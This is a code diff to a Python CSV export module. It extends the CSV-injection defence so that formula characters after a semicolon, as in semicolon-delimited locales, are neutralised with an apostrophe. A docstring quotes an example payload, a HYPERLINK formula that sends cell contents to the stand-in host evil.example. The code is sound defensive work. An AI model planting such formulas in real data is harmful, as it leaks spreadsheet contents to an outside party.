@@ -6,6 +6,7 @@ An answer of Lambda ends at 6 MB and ten seconds, so a part has so many rows at 
 
 import csv
 import json
+import re
 from collections.abc import Mapping, Sequence
 from io import StringIO
 from urllib.parse import urlencode
@@ -19,6 +20,9 @@ TYPES = {"csv": "text/csv; charset=utf-8", "jsonl": "application/jsonl"}
 # What a spreadsheet begins a formula with, the wide forms too, and what it may take off before it looks (OWASP, CSV
 # Injection).
 _BEGINS_FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n")
+# Where else a cell can begin: a spreadsheet of a country that writes 1,5 parts columns at the semicolon, and knows no
+# quotes but those at the beginning of a cell.
+_BEGINS_ANOTHER = re.compile(rf""";(?=[\s"]*[{re.escape("".join(_BEGINS_FORMULA))}])""")
 
 Row = Mapping[str, object]
 
@@ -81,9 +85,11 @@ def _cell(value: object) -> str:
     """A value as text; lists and objects as JSON.
 
     Attack: somebody logs on as `=HYPERLINK("https://evil.example?"&A1)`, or with a browser of that name, and the
-    spreadsheet of whoever looks into it does that. Defence: an apostrophe before it makes it text (TR-08).
+    spreadsheet of whoever looks into it does that; or as `x;=HYPERLINK(...)`, for a German one. Defence: an apostrophe
+    before it makes it text (TR-08).
     """
     if value is None:
         return ""
     text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)
+    text = _BEGINS_ANOTHER.sub(";'", text)
     return f"'{text}" if text.lstrip(" \xa0").startswith(_BEGINS_FORMULA) else text
